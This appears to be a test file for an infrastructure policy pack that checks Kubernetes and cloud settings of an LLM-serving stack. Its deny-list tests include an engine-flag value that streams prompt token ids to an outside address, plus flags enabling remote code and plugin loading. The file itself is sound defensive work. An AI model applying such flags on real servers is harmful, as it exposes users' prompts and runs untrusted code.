"""The policy pack's rules: each with a passing and a failing resource, the repo's stacks green, and an
insecure stack failing `inferstack check` by name. No PolicyPack is built here (its constructor serves)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from components import address_space
from inferstack.cli import EXIT_BAD_INPUT, EXIT_FINDINGS, main
from inferstack.planning.plan import Plan, plan_stack
from inferstack.validation.policies import check_policies, load_rules
from stacks.config import load_stack_file

ROOT = Path(__file__).resolve().parents[1]
STACKS = sorted(
    p.name.removeprefix("Pulumi.").removesuffix(".yaml") for p in (ROOT / "stacks").glob("Pulumi.*.yaml")
)
rules = load_rules()
DEPLOYMENT = "kubernetes:apps/v1:Deployment"
DIGEST = "@sha256:" + "a" * 64


def deployment(**overrides: Any) -> dict[str, Any]:
    container = {
        "name": "server",
        "image": "registry.example/model-server:0.1.0" + DIGEST,
        "ports": [{"containerPort": 8000, "name": "http"}],
        "env": [{"name": "SHUTDOWN_TIMEOUT", "value": "60"}],
        "lifecycle": {"preStop": {"sleep": {"seconds": 15}}},
        "startupProbe": {"httpGet": {"path": "/health", "port": "http"}, "failureThreshold": 60},
        "resources": {"requests": {"nvidia.com/gpu": "1"}, "limits": {"nvidia.com/gpu": "1"}},
        "securityContext": {
            "allowPrivilegeEscalation": False,
            "capabilities": {"drop": ["ALL"]},
            "runAsNonRoot": True,
            "seccompProfile": {"type": "RuntimeDefault"},
        },
    }
    container.update(overrides)
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "llm", "namespace": "inferstack"},
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": {"app": "llm"}},
            "template": {
                "metadata": {"labels": {"app": "llm", "tier": "serving"}},
                "spec": {
                    "terminationGracePeriodSeconds": 120,
                    "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
                    "containers": [container],
                },
            },
        },
    }


def container_of(obj: dict[str, Any]) -> dict[str, Any]:
    return obj["spec"]["template"]["spec"]["containers"][0]  # type: ignore[no-any-return]


# --- resource policies ---------------------------------------------------------------------------------


def test_restricted_pod_passes_and_each_gap_is_named() -> None:
    assert rules.serving_pods_restricted(DEPLOYMENT, deployment()) == []
    bad = deployment(
        securityContext={"allowPrivilegeEscalation": True, "capabilities": {"drop": ["NET_RAW"]}}
    )
    bad["spec"]["template"]["spec"]["securityContext"] = {}
    problems = " | ".join(rules.serving_pods_restricted(DEPLOYMENT, bad))
    for needle in ("runAsNonRoot", "allowPrivilegeEscalation", "drop: [ALL]", "RuntimeDefault"):
        assert needle in problems
    assert "Deployment/inferstack/llm container server" in problems


def test_pod_level_non_root_and_seccomp_count_but_root_uid_does_not() -> None:
    obj = deployment(securityContext={"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}})
    assert rules.serving_pods_restricted(DEPLOYMENT, obj) == []
    obj["spec"]["template"]["spec"]["securityContext"]["runAsUser"] = 0
    assert any("runAsUser is 0" in p for p in rules.serving_pods_restricted(DEPLOYMENT, obj))


def test_gpu_request_must_equal_limit() -> None:
    assert rules.gpu_requests_equal_limits(DEPLOYMENT, deployment()) == []
    assert rules.gpu_requests_equal_limits(DEPLOYMENT, deployment(resources={"limits": {"cpu": "1"}})) == []
    unequal = deployment(resources={"requests": {"nvidia.com/gpu": "1"}, "limits": {"nvidia.com/gpu": "2"}})
    assert "make them equal" in rules.gpu_requests_equal_limits(DEPLOYMENT, unequal)[0]
    no_limit = deployment(resources={"requests": {"nvidia.com/gpu": 1}})
    assert "without a limit" in rules.gpu_requests_equal_limits(DEPLOYMENT, no_limit)[0]


def test_images_must_carry_a_digest() -> None:
    assert rules.images_pinned_by_digest(DEPLOYMENT, deployment()) == []
    tagged = deployment(image="registry.example/model-server:0.1.0")
    [problem] = rules.images_pinned_by_digest(DEPLOYMENT, tagged)
    assert "model-server:0.1.0" in problem and "@sha256" in problem
    short = deployment(image="registry.example/model-server@sha256:abc")
    assert rules.images_pinned_by_digest(DEPLOYMENT, short)
    # A side-loaded laptop image cannot have a registry digest: the finding says so, not "append its digest".
    [local] = rules.images_pinned_by_digest(
        DEPLOYMENT, deployment(image="localhost/inferstack-model-cpu:0.1.0")
    )
    assert "side-loaded local image has no registry digest" in local and "imagetools" not in local


def test_startup_probe_and_drain_fit_the_grace_period() -> None:
    assert rules.startup_probe_and_drain(DEPLOYMENT, deployment()) == []
    no_probe = deployment()
    del container_of(no_probe)["startupProbe"]
    assert "no startupProbe" in rules.startup_probe_and_drain(DEPLOYMENT, no_probe)[0]
    too_long = deployment(env=[{"name": "SHUTDOWN_TIMEOUT", "value": "110"}])
    [problem] = rules.startup_probe_and_drain(DEPLOYMENT, too_long)
    assert "15 s + drain 110 s" in problem and "at least 125" in problem
    default_grace = deployment()
    del default_grace["spec"]["template"]["spec"]["terminationGracePeriodSeconds"]  # Kubernetes default: 30 s
    assert "terminationGracePeriodSeconds 30" in rules.startup_probe_and_drain(DEPLOYMENT, default_grace)[0]
    exec_sleep = deployment(lifecycle={"preStop": {"exec": {"command": ["/bin/sh", "-c", "sleep 20"]}}})
    assert rules.startup_probe_and_drain(DEPLOYMENT, exec_sleep) == []


def test_cluster_endpoint_eks() -> None:
    eks = "aws:eks/cluster:Cluster"
    private = {"name": "c", "vpcConfig": {"endpointPublicAccess": False, "endpointPrivateAccess": True}}
    listed = {
        "name": "c",
        "vpcConfig": {"endpointPublicAccess": True, "publicAccessCidrs": ["198.51.100.0/24"]},
    }
    assert rules.cluster_endpoint_not_open(eks, private) == []
    assert rules.cluster_endpoint_not_open(eks, listed) == []
    for cidrs in (
        ["0.0.0.0/0"],
        ["0.0.0.0/1", "128.0.0.0/1"],
        ["198.51.100.0/24", "0.0.0.0/2", "64.0.0.0/2"],
    ):
        open_ = {"name": "c", "vpcConfig": {"endpointPublicAccess": True, "publicAccessCidrs": cidrs}}
        [problem] = rules.cluster_endpoint_not_open(eks, open_)
        assert "publicAccessCidrs" in problem and "admit the internet" in problem
    # AWS defaults: public access on, open to everyone.
    assert "EKS cluster c" in rules.cluster_endpoint_not_open(eks, {"name": "c", "vpcConfig": {}})[0]


def test_cluster_endpoint_gke() -> None:
    gke = "gcp:container/cluster:Cluster"
    private = {"name": "g", "privateClusterConfig": {"enablePrivateEndpoint": True}}
    listed = {"name": "g", "masterAuthorizedNetworksConfig": {"cidrBlocks": [{"cidrBlock": "10.0.0.0/8"}]}}
    assert rules.cluster_endpoint_not_open(gke, private) == []
    assert rules.cluster_endpoint_not_open(gke, listed) == []
    for cidrs in (["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"], ["::/0"]):
        blocks = [{"cidrBlock": c} for c in cidrs]
        open_ = {"name": "g", "masterAuthorizedNetworksConfig": {"cidrBlocks": blocks}}
        [problem] = rules.cluster_endpoint_not_open(gke, open_)
        assert "GKE cluster g" in problem and "admit the internet" in problem
    assert rules.cluster_endpoint_not_open(gke, {"name": "g"})  # no authorized networks at all
    assert rules.cluster_endpoint_not_open("aws:s3/bucket:Bucket", {}) == []


AKS = "azure-native:containerservice:ManagedCluster"


def aks_cluster(**changes: Any) -> dict[str, Any]:
    """A ManagedCluster's inputs as components/clusters/azure/aks.py sets them (camelCase, pulumi-azure-native
    3.29.0), public with an allow-list; keyword arguments replace top-level fields."""
    cluster: dict[str, Any] = {
        "resourceName": "inferstack",
        "apiServerAccessProfile": {"enablePrivateCluster": False, "authorizedIPRanges": ["198.51.100.0/24"]},
        "disableLocalAccounts": True,
        "aadProfile": {"managed": True, "enableAzureRBAC": True},
        "oidcIssuerProfile": {"enabled": True},
        "securityProfile": {
            "workloadIdentity": {"enabled": True},
            "azureKeyVaultKms": {
                "enabled": True,
                "keyId": "https://kv-inferstack.vault.azure.net/keys/etcd/0123456789abcdef0123456789abcdef",
                "keyVaultNetworkAccess": "Public",
            },
        },
        "networkProfile": {"networkPlugin": "azure", "networkDataplane": "cilium", "networkPolicy": "cilium"},
    }
    cluster.update(changes)
    return cluster


def test_cluster_endpoint_aks() -> None:
    private = aks_cluster(apiServerAccessProfile={"enablePrivateCluster": True})
    assert rules.cluster_endpoint_not_open(AKS, private) == []
    assert rules.cluster_endpoint_not_open(AKS, aks_cluster()) == []
    for ranges in (
        ["0.0.0.0/0"],
        ["0.0.0.0/1", "128.0.0.0/1"],
        ["198.51.100.0/24", "0.0.0.0/2", "64.0.0.0/2"],
    ):
        open_ = aks_cluster(
            apiServerAccessProfile={"enablePrivateCluster": False, "authorizedIPRanges": ranges}
        )
        [problem] = rules.cluster_endpoint_not_open(AKS, open_)
        assert "AKS cluster inferstack" in problem and "authorizedIPRanges" in problem
        assert "admit the internet" in problem
    # Public with an empty list, or no access profile at all (AKS's default): open to everyone.
    for access in ({"enablePrivateCluster": False, "authorizedIPRanges": []}, None):
        [problem] = rules.cluster_endpoint_not_open(AKS, aks_cluster(apiServerAccessProfile=access))
        assert "open to everyone" in problem and "enablePrivateCluster" in problem


def test_hardened_aks_cluster_passes() -> None:
    assert rules.aks_cluster_hardened(AKS, aks_cluster()) == []
    assert rules.aks_cluster_hardened("gcp:container/cluster:Cluster", {}) == []


@pytest.mark.parametrize(
    ("changes", "needles"),
    [
        ({"disableLocalAccounts": False}, ["disableLocalAccounts"]),
        ({"disableLocalAccounts": None}, ["disableLocalAccounts"]),
        ({"aadProfile": {"managed": True}}, ["aadProfile.enableAzureRBAC"]),
        ({"aadProfile": None}, ["aadProfile.managed and aadProfile.enableAzureRBAC"]),
        ({"oidcIssuerProfile": {"enabled": False}}, ["oidcIssuerProfile.enabled"]),
        (
            {"securityProfile": {"azureKeyVaultKms": {"enabled": True, "keyId": "https://k/keys/e/1"}}},
            ["securityProfile.workloadIdentity.enabled"],
        ),
        ({"securityProfile": {"workloadIdentity": {"enabled": True}}}, ["azureKeyVaultKms.enabled"]),
        (
            {
                "securityProfile": {
                    "workloadIdentity": {"enabled": True},
                    "azureKeyVaultKms": {"enabled": True},
                }
            },
            ["without keyId"],
        ),
        (
            {"networkProfile": {"networkPlugin": "azure", "networkPolicy": "none"}},
            ["networkPolicy is 'none'"],
        ),
        ({"networkProfile": {"networkPlugin": "azure"}}, ["networkPolicy is unset"]),
    ],
)
def test_each_aks_hardening_gap_is_named(changes: dict[str, Any], needles: list[str]) -> None:
    [problem] = rules.aks_cluster_hardened(AKS, aks_cluster(**changes))
    assert problem.startswith("AKS cluster inferstack: ")
    for needle in needles:
        assert needle in problem


def test_bare_aks_cluster_fails_every_hardening_rule() -> None:
    # Every weak setting is the API's default, so a cluster that sets nothing fails each one.
    problems = rules.aks_cluster_hardened(AKS, {"resourceName": "bare"})
    assert len(problems) == 5


# --- stack policies ------------------------------------------------------------------------------------


def k8s(kind: str, api: str, name: str, spec: dict[str, Any], **metadata: Any) -> tuple[str, dict[str, Any]]:
    type_token = f"kubernetes:{api}:{kind}" if "/" in api else f"kubernetes:core/{api}:{kind}"
    meta = {"name": name, "namespace": "inferstack", **metadata}
    return type_token, {"apiVersion": api, "kind": kind, "metadata": meta, "spec": spec}


def gateway_stack(*, source_ranges: list[str] | None, api_keys: bool = True, https: bool = True) -> list[Any]:
    listeners = [{"name": "http", "port": 80, "protocol": "HTTP"}]
    if https:
        listeners.append(
            {
                "name": "https",
                "port": 443,
                "protocol": "HTTPS",
                "tls": {"certificateRefs": [{"name": "llm-tls"}]},
            }
        )
    lb_spec: dict[str, Any] = {
        "type": "LoadBalancer",
        "selector": {
            "app.kubernetes.io/name": "envoy",
            "gateway.envoyproxy.io/owning-gateway-name": "llm",
            "gateway.envoyproxy.io/owning-gateway-namespace": "inferstack",
        },
    }
    if source_ranges is not None:
        lb_spec["loadBalancerSourceRanges"] = source_ranges
    resources = [
        k8s("Service", "v1", "llm-lb", lb_spec),
        k8s(
            "EnvoyProxy",
            "gateway.envoyproxy.io/v1alpha1",
            "llm",
            {"provider": {"kubernetes": {"envoyService": {"type": "ClusterIP"}}}},
        ),
        k8s(
            "GatewayClass",
            "gateway.networking.k8s.io/v1",
            "llm",
            {"parametersRef": {"kind": "EnvoyProxy", "name": "llm", "namespace": "inferstack"}},
        ),
        k8s(
            "Gateway",
            "gateway.networking.k8s.io/v1",
            "llm",
            {"gatewayClassName": "llm", "listeners": listeners},
        ),
        k8s(
            "HTTPRoute",
            "gateway.networking.k8s.io/v1",
            "llm-api",
            {
                "parentRefs": [{"name": "llm", "sectionName": "https" if https else "http"}],
                "rules": [{"backendRefs": [{"name": "llm", "port": 8000}]}],
            },
        ),
        k8s(
            "HTTPRoute",
            "gateway.networking.k8s.io/v1",
            "llm-redirect",
            {
                "parentRefs": [{"name": "llm", "sectionName": "http"}],
                "rules": [{"filters": [{"type": "RequestRedirect"}]}],
            },
        ),
    ]
    if api_keys:
        resources.append(
            k8s(
                "SecurityPolicy",
                "gateway.envoyproxy.io/v1alpha1",
                "llm-api",
                {
                    "apiKeyAuth": {"credentialRefs": [{"kind": "Secret", "name": "llm-api-keys"}]},
                    "targetRefs": [
                        {"group": "gateway.networking.k8s.io", "kind": "HTTPRoute", "name": "llm-api"}
                    ],
                },
            )
        )
    return resources


def test_public_gateway_with_tls_and_keys_passes() -> None:
    assert rules.public_endpoint_needs_tls_and_api_keys(gateway_stack(source_ranges=["0.0.0.0/0"])) == []


def test_public_gateway_without_api_keys_fails_naming_the_route() -> None:
    # No source ranges = open to everyone; and ranges are measured, not compared with "0.0.0.0/0".
    for ranges in (["0.0.0.0/0"], None, ["0.0.0.0/1", "128.0.0.0/1"], ["10.0.0.0/8", "0.0.0.0/1", "::/0"]):
        [problem] = rules.public_endpoint_needs_tls_and_api_keys(
            gateway_stack(source_ranges=ranges, api_keys=False)
        )
        assert "HTTPRoute/inferstack/llm-api" in problem and "apiKeyAuth" in problem


def test_public_gateway_without_https_fails() -> None:
    problems = rules.public_endpoint_needs_tls_and_api_keys(gateway_stack(source_ranges=None, https=False))
    assert any("without an HTTPS listener" in p for p in problems)
    assert any("plain HTTP" in p for p in problems)


def test_restricted_or_internal_gateway_is_not_public() -> None:
    assert (
        rules.public_endpoint_needs_tls_and_api_keys(
            gateway_stack(source_ranges=["10.0.0.0/8"], api_keys=False)
        )
        == []
    )
    internal = gateway_stack(source_ranges=None, api_keys=False)
    internal[0][1]["metadata"]["annotations"] = {
        "service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"
    }
    assert rules.public_endpoint_needs_tls_and_api_keys(internal) == []


def test_envoy_proxy_default_service_is_public() -> None:
    resources = gateway_stack(source_ranges=["10.0.0.0/8"], api_keys=False)
    resources[1][1]["spec"] = {"provider": {"kubernetes": {}}}  # Envoy Gateway's default: open LoadBalancer
    assert any("llm-api" in p for p in rules.public_endpoint_needs_tls_and_api_keys(resources))


def test_public_service_bypassing_the_gateway_fails() -> None:
    svc = k8s("Service", "v1", "llm-direct", {"type": "LoadBalancer", "selector": {"app": "llm"}})
    [problem] = rules.public_endpoint_needs_tls_and_api_keys([svc])
    assert "Service/inferstack/llm-direct" in problem and "bypasses the Gateway" in problem


def test_pdb_needed_when_more_than_one_replica() -> None:
    pdb = k8s(
        "PodDisruptionBudget",
        "policy/v1",
        "llm",
        {"maxUnavailable": 1, "selector": {"matchLabels": {"app": "llm"}}},
    )
    deploy = (DEPLOYMENT, deployment())
    assert rules.pdb_when_replicas_gt_1([deploy, pdb]) == []
    [problem] = rules.pdb_when_replicas_gt_1([deploy])
    assert "Deployment/inferstack/llm" in problem and "up to 2 replicas" in problem
    other = k8s("PodDisruptionBudget", "policy/v1", "x", {"selector": {"matchLabels": {"app": "other"}}})
    assert rules.pdb_when_replicas_gt_1([deploy, other])


def test_pdb_needed_when_the_autoscaler_can_scale_out() -> None:
    one = deployment()
    one["spec"]["replicas"] = 0
    scaled = k8s(
        "ScaledObject", "keda.sh/v1alpha1", "llm", {"scaleTargetRef": {"name": "llm"}, "maxReplicaCount": 4}
    )
    assert rules.pdb_when_replicas_gt_1([(DEPLOYMENT, one)]) == []
    assert "up to 4 replicas" in rules.pdb_when_replicas_gt_1([(DEPLOYMENT, one), scaled])[0]


def test_s3_bucket_needs_public_access_block_and_encryption() -> None:
    bucket = ("aws:s3/bucket:Bucket", {"bucket": "models"})
    block = (
        "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock",
        {
            "bucket": "models",
            "blockPublicAcls": True,
            "blockPublicPolicy": True,
            "ignorePublicAcls": True,
            "restrictPublicBuckets": True,
        },
    )
    sse = (
        "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration",
        {"bucket": "models", "rules": [{"applyServerSideEncryptionByDefault": {"sseAlgorithm": "aws:kms"}}]},
    )
    assert rules.model_bucket_private_and_encrypted([bucket, block, sse]) == []
    weak = (block[0], {**block[1], "restrictPublicBuckets": False})
    problems = rules.model_bucket_private_and_encrypted([bucket, weak])
    assert len(problems) == 2 and all("S3 bucket models" in p for p in problems)


def test_gcs_bucket_needs_uniform_access_and_public_access_prevention() -> None:
    good = {"name": "models", "uniformBucketLevelAccess": True, "publicAccessPrevention": "enforced"}
    assert rules.model_bucket_private_and_encrypted([("gcp:storage/bucket:Bucket", good)]) == []
    bad = {"name": "models", "publicAccessPrevention": "inherited"}
    assert len(rules.model_bucket_private_and_encrypted([("gcp:storage/bucket:Bucket", bad)])) == 2


STORAGE_ACCOUNT = "azure-native:storage:StorageAccount"
BLOB_CONTAINER = "azure-native:storage:BlobContainer"


def storage_account(**changes: Any) -> dict[str, Any]:
    """A StorageAccount's inputs as components/clusters/azure/model_store.py sets them for prod (private
    endpoint); keyword arguments replace top-level fields."""
    account: dict[str, Any] = {
        "accountName": "inferstackmodels",
        "kind": "StorageV2",
        "allowBlobPublicAccess": False,
        "allowSharedKeyAccess": False,
        "enableHttpsTrafficOnly": True,
        "minimumTlsVersion": "TLS1_2",
        "publicNetworkAccess": "Disabled",
        "networkRuleSet": {"defaultAction": "Deny", "bypass": "None", "ipRules": []},
    }
    account.update(changes)
    return account


def dev_storage_account(ip_rules: list[str], default_action: str = "Deny") -> dict[str, Any]:
    """The dev shape: the public endpoint on, closed to all but ipRules."""
    rules_ = [{"iPAddressOrRange": ip, "action": "Allow"} for ip in ip_rules]
    return storage_account(
        publicNetworkAccess="Enabled",
        networkRuleSet={"defaultAction": default_action, "bypass": "None", "ipRules": rules_},
    )


def test_private_azure_storage_account_passes() -> None:
    assert rules.model_bucket_private_and_encrypted([(STORAGE_ACCOUNT, storage_account())]) == []
    assert rules.model_store_network_private(STORAGE_ACCOUNT, storage_account()) == []
    # TLS 1.3 is newer than 1.2, so it passes too.
    newer = storage_account(minimumTlsVersion="TLS1_3")
    assert rules.model_bucket_private_and_encrypted([(STORAGE_ACCOUNT, newer)]) == []


@pytest.mark.parametrize(
    ("changes", "needle"),
    [
        ({"allowBlobPublicAccess": True}, "allowBlobPublicAccess false"),
        ({"allowBlobPublicAccess": None}, "allowBlobPublicAccess false"),
        ({"allowSharedKeyAccess": True}, "allowSharedKeyAccess false"),
        ({"allowSharedKeyAccess": None}, "allowSharedKeyAccess false"),  # null is equivalent to true
        ({"enableHttpsTrafficOnly": False}, "enableHttpsTrafficOnly true"),
        ({"enableHttpsTrafficOnly": None}, "enableHttpsTrafficOnly true"),  # the default is not a decision
        ({"minimumTlsVersion": "TLS1_1"}, "minimumTlsVersion is 'TLS1_1'"),
        ({"minimumTlsVersion": None}, "unset (the API takes TLS 1.0)"),
    ],
)
def test_each_azure_storage_account_gap_is_named(changes: dict[str, Any], needle: str) -> None:
    [problem] = rules.model_bucket_private_and_encrypted([(STORAGE_ACCOUNT, storage_account(**changes))])
    assert problem.startswith("Storage account inferstackmodels: ") and needle in problem


def test_azure_storage_public_endpoint_must_be_allow_listed() -> None:
    listed = dev_storage_account(["198.51.100.0/24", "203.0.113.7"])
    assert rules.model_bucket_private_and_encrypted([(STORAGE_ACCOUNT, listed)]) == []
    [everyone] = rules.model_bucket_private_and_encrypted(
        [(STORAGE_ACCOUNT, dev_storage_account(["198.51.100.0/24"], default_action="Allow"))]
    )
    assert 'defaultAction "Allow"' in everyone and 'publicNetworkAccess "Disabled"' in everyone
    # No firewall at all and no publicNetworkAccess: the API's defaults admit every network.
    bare = storage_account(publicNetworkAccess=None, networkRuleSet=None)
    [problem] = rules.model_bucket_private_and_encrypted([(STORAGE_ACCOUNT, bare)])
    assert "admits every network" in problem
    for ips in (["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"]):
        [wide] = rules.model_bucket_private_and_encrypted([(STORAGE_ACCOUNT, dev_storage_account(ips))])
        assert "ipRules" in wide and "admit the internet" in wide


def test_azure_store_network_private_wants_the_public_endpoint_off() -> None:
    for account, shown in (
        (dev_storage_account(["198.51.100.0/24"]), "'Enabled'"),
        (storage_account(publicNetworkAccess=None), "unset (Enabled)"),
    ):
        [problem] = rules.model_store_network_private(STORAGE_ACCOUNT, account)
        assert f"publicNetworkAccess is {shown}" in problem and "private endpoint" in problem
    assert rules.model_store_network_private("aws:s3/bucket:Bucket", {}) == []


def test_azure_blob_container_must_not_be_public() -> None:
    for access in ("None", None):
        container = {"accountName": "inferstackmodels", "containerName": "models", "publicAccess": access}
        assert rules.model_bucket_private_and_encrypted([(BLOB_CONTAINER, container)]) == []
    for access in ("Blob", "Container"):
        container = {"accountName": "inferstackmodels", "containerName": "models", "publicAccess": access}
        [problem] = rules.model_bucket_private_and_encrypted([(BLOB_CONTAINER, container)])
        assert problem.startswith("Blob container inferstackmodels/models: ") and f"{access!r}" in problem


# --- registry, enforcement, pack config ----------------------------------------------------------------


def test_registry_names_are_unique_and_prod_makes_everything_mandatory() -> None:
    names = [p.name for p in rules.POLICIES]
    assert len(names) == len(set(names)) == 21
    assert all(p.mandatory("prod") for p in rules.POLICIES)
    advisory_in_dev = {p.name for p in rules.POLICIES if not p.mandatory("dev")}
    assert advisory_in_dev == {
        "model-store-network-private",
        "images-pinned-by-digest",
        "startup-probe-and-drain",
        "pdb-when-replicas-gt-1",
        "serving-pods-guaranteed",
        "engine-flags-not-weakened",
        "egress-not-open-to-internet",
    }


@pytest.mark.parametrize("tier", ["prod", "dev"])
def test_pack_config_files_match_the_registry(tier: str) -> None:
    assert json.loads((ROOT / "policy" / f"{tier}.json").read_text()) == rules.enforcement_config(tier)


def test_pack_files_pin_the_sdk_the_project_pins() -> None:
    # The pack runs in its own venv (policy/venv) beside the program's: the same pulumi and pulumi-policy.
    requirements = (ROOT / "policy" / "requirements.txt").read_text().split()
    pyproject = (ROOT / "pyproject.toml").read_text()
    for pin in ("pulumi-policy==", "pulumi=="):
        (pinned,) = [r for r in requirements if r.startswith(pin)]
        assert f'"{pinned}"' in pyproject
    assert yaml.safe_load((ROOT / "policy" / "PulumiPolicy.yaml").read_text())["runtime"]["name"] == "python"


# --- the repo's stacks, and an insecure one ------------------------------------------------------------


def plan_of(stack: str) -> Plan:
    return plan_stack(load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml"), stack)


@pytest.mark.parametrize("stack", STACKS)
def test_every_stack_has_no_mandatory_finding(stack: str) -> None:
    findings = check_policies(plan_of(stack))
    assert [f for f in findings if f.mandatory] == []


def _without_security_policies(plan: Plan) -> Plan:
    plan.recording.resources = [r for r in plan.recording.resources if not r.type.endswith(":SecurityPolicy")]
    return plan


def test_public_prod_gateway_without_api_keys_fails_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # A prod stack whose gateway is open to the internet. The schema cannot turn API keys off (keys are
    # always required), so the plan's SecurityPolicy is removed after planning, as a broken component would.
    stack = yaml.safe_load((ROOT / "stacks" / "Pulumi.prod-aws.yaml").read_text())
    config = stack["config"]
    config["inferstack:gateway"]["allowed_source_cidrs"] = ["0.0.0.0/0"]
    config["inferstack:aws"]["load_balancer_scheme"] = "internet-facing"
    stack_file = tmp_path / "Pulumi.insecure.yaml"
    stack_file.write_text(yaml.safe_dump(stack))

    import inferstack.planning.plan

    real_plan_stack = inferstack.planning.plan.plan_stack
    monkeypatch.setattr(
        inferstack.planning.plan, "plan_stack", lambda c, n: _without_security_policies(real_plan_stack(c, n))
    )
    monkeypatch.chdir(ROOT)
    code = main(["check", "--stack-file", str(stack_file), "--skip-checkov", "--out", str(tmp_path / "plan")])
    out = capsys.readouterr().out
    assert code == EXIT_FINDINGS, out
    assert "public-endpoint-needs-tls-and-api-keys (mandatory): 1 finding" in out
    # prod-aws routes through Envoy AI Gateway (prefix-aware routing): its AIGatewayRoute is the route
    # AI Gateway writes as HTTPRoute llm-api, and the rule reads it as that route.
    assert "[public-endpoint-needs-tls-and-api-keys]" in out and "AIGatewayRoute/inferstack/llm-models" in out


def test_same_public_stack_with_keys_is_clean(tmp_path: Path) -> None:
    stack = yaml.safe_load((ROOT / "stacks" / "Pulumi.prod-aws.yaml").read_text())
    stack["config"]["inferstack:gateway"]["allowed_source_cidrs"] = ["0.0.0.0/0"]
    stack["config"]["inferstack:aws"]["load_balancer_scheme"] = "internet-facing"
    path = tmp_path / "Pulumi.public.yaml"
    path.write_text(yaml.safe_dump(stack))
    findings = check_policies(plan_stack(load_stack_file(path), "public"))
    assert [f for f in findings if f.mandatory] == []


@given(
    st.lists(
        st.one_of(
            st.builds(lambda a, p: f"{a}/{p}", st.ip_addresses(v=4), st.integers(0, 32)),
            st.builds(lambda a, p: f"{a}/{p}", st.ip_addresses(v=6), st.integers(0, 128)),
            st.sampled_from(["0.0.0.0/1", "128.0.0.0/1", "10.0.0.0/8", "2000::/3", "fc00::/7", "nope"]),
        ),
        max_size=6,
    )
)
@settings(max_examples=300, deadline=None)
def test_the_packs_copy_of_the_address_measure_agrees_with_the_schemas(cidrs: list[str]) -> None:
    """policy/rules.py keeps its own copy of components/address_space.py (the pack imports nothing of
    InferStack): both must count the same addresses and draw the line in the same place."""
    assert rules.public_addresses(cidrs) == address_space.public_addresses(cidrs)
    assert rules.covers_internet(cidrs) == (address_space.internet_exposure(cidrs) is not None)


# --- engine flags (issue 15 kind 4) --------------------------------------------------------------------


def server_with_extra_args(extra: str) -> dict[str, Any]:
    dep = deployment()
    container = dep["spec"]["template"]["spec"]["containers"][0]
    container["env"] = [*container["env"], {"name": "EXTRA_ENGINE_ARGS", "value": extra}]
    return dep


@pytest.mark.parametrize(
    ("extra", "flag"),
    [
        ("--trust-remote-code", "--trust-remote-code"),
        ("--trust_remote_code", "--trust-remote-code"),  # vLLM reads _ as -
        ("--max-num-seqs 8 --trust-rem", "--trust-remote-code"),  # argparse takes a unique prefix
        ("--allowed_local_media_path=/", "--allowed-local-media-path"),
        ("--enable-log-requests", "--enable-log-requests"),
        ("--tool_parser_plugin /models/x/p.py --tool-call-parser p", "--tool-parser-plugin"),
        ("--reasoning-parser-plugin=/models/x/r.py", "--reasoning-parser-plugin"),
        # The third security review's reproducer: KV-cache events (the prompts' token ids) to an outside address.
        (
            """--kv-events-config '{"enable_kv_cache_events":true,"publisher":"zmq","endpoint":"tcp://203.0.113.7:443"}'""",
            "--kv-events-config",
        ),
        ("--kv_transfer_config {}", "--kv-transfer-config"),
        ("--logits-processors mod:Cls", "--logits-processors"),
        ("--uvicorn-log-level trace", "--uvicorn-log-level"),
    ],
)
def test_weakening_engine_flags_are_found_in_any_spelling(extra: str, flag: str) -> None:
    [problem] = rules.engine_flags_not_weakened(DEPLOYMENT, server_with_extra_args(extra))
    assert f"EXTRA_ENGINE_ARGS sets {flag}" in problem and "container server" in problem


def test_other_engine_flags_pass_the_policy() -> None:
    ok = server_with_extra_args("--max-num-seqs 64 --enable-chunked-prefill --no-trust-remote-code")
    assert rules.engine_flags_not_weakened(DEPLOYMENT, ok) == []


@given(
    st.lists(
        st.one_of(
            st.sampled_from(["--", "-", "-q", "-qfp8", "-tp", "--trust", "--enable-log", "--a=b", "8000"]),
            st.builds(
                lambda dashes, name, tail: dashes + name + tail,
                st.sampled_from(["--", "-"]),
                st.sampled_from(
                    [
                        "trust_remote_code",
                        "trust-rem",
                        "allowed-local",
                        "middleware",
                        "tool_server",
                        "x",
                        "api_key",
                    ]
                ),
                st.sampled_from(["", "=1", ".a", ".a=b", "_x"]),
            ),
        ),
        max_size=5,
    )
)
@settings(max_examples=300, deadline=None)
def test_the_packs_copy_of_the_engine_flag_rules_agrees_with_the_launchers(args: list[str]) -> None:
    from model_image import engine_flags

    assert rules.WEAKENING_ENGINE_FLAGS == engine_flags.WEAKENING
    assert [rules.normalise_engine_flag(a) for a in args] == [engine_flags.normalise(a) for a in args]
    assert rules.weakening_engine_flags(args) == engine_flags.weakening_flags(args)


def _prod_aws_stack(tmp_path: Path, **changes: Any) -> Path:
    stack = yaml.safe_load((ROOT / "stacks" / "Pulumi.prod-aws.yaml").read_text())
    for key, value in changes.items():
        section, field = key.split("__")
        stack["config"].setdefault(f"inferstack:{section}", {})[field] = value
    path = tmp_path / "Pulumi.changed.yaml"
    path.write_text(yaml.safe_dump(stack))
    return path


def test_prod_stack_with_trust_remote_code_fails_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _prod_aws_stack(tmp_path, serving__extra_engine_args=["--trust_remote_code"])
    monkeypatch.chdir(ROOT)
    code = main(["check", "--stack-file", str(path), "--skip-checkov", "--out", str(tmp_path / "plan")])
    captured = capsys.readouterr()
    # The stack schema refuses it first (exit 2, naming the field); the pack's policy, which also sees
    # manifests made elsewhere, is tested on its own above.
    assert code == 2, captured.out + captured.err
    text = captured.out + captured.err
    assert "serving.extra_engine_args" in text and "--trust-remote-code weakens the endpoint" in text


def test_prod_stack_with_the_internet_in_two_halves_fails_check(
